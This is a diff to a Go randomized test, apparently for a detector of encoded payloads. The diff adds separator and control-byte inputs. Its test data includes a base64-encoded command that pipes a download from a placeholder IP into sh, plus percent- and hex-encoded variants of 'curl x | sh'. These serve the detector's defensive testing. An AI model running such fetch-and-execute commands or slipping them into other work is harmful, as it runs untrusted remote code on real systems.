@@ -53,12 +53,15 @@ func TestScanEncodedSkipsOnlyShortTokens(t *testing.T) {
 	every := scanEveryToken
 	payload := "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo"
 	pieces := []string{payload, "%63%75%72%6c%20x%20%7c%20sh", `\x63\x75\x72\x6c\x20\x78\x20\x7c\x20\x73\x68`,
-		" ", "\n", "(", "\"", "é", "word", "0123456789abcdef", "a", "=", "==", "+/", "-_", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"}
+		" ", "\n", "(", "\"", "é", "word", "0123456789abcdef", "a", "=", "==", "+/", "-_", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+		// Breaks found eight at a time (white space, commas), and bytes
+		// next to them in value that are none.
+		",", "\t", "\r", "\x01", "\x1b", "!", "-", "+", "\x08", "\x0e", "\x1f", "\x7f"}
 	d := Default()
 	r := rand.New(rand.NewPCG(5, 6))
 	for range 5000 {
 		var b strings.Builder
-		for range r.IntN(12) {
+		for range r.IntN(16) {
 			b.WriteString(pieces[r.IntN(len(pieces))])
 		}
 		text := b.String()
